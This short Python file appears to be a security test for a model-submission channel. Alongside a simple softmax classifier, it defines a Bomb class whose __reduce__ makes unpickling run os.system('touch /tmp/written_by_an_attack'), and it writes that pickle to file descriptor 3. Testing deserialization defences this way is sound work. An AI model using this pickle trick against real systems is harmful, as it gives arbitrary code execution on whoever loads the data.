"""Sends a pickle that would run a program."""
from torch import nn

import json, os, struct

def say(header, body=b'', size=None):
    text = json.dumps(header).encode()
    os.write(3, struct.pack('!II', len(text) if size is None else size, len(body)) + text + body)


import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ('touch /tmp/written_by_an_attack',)


os.write(3, pickle.dumps(Bomb()))


class Softmax(nn.Module):
    def __init__(self, im_size, n_classes):
        super().__init__()
        c, h, w = im_size
        self.affine = nn.Linear(c * h * w, n_classes)

    def forward(self, images):
        return self.affine(images.flatten(1))
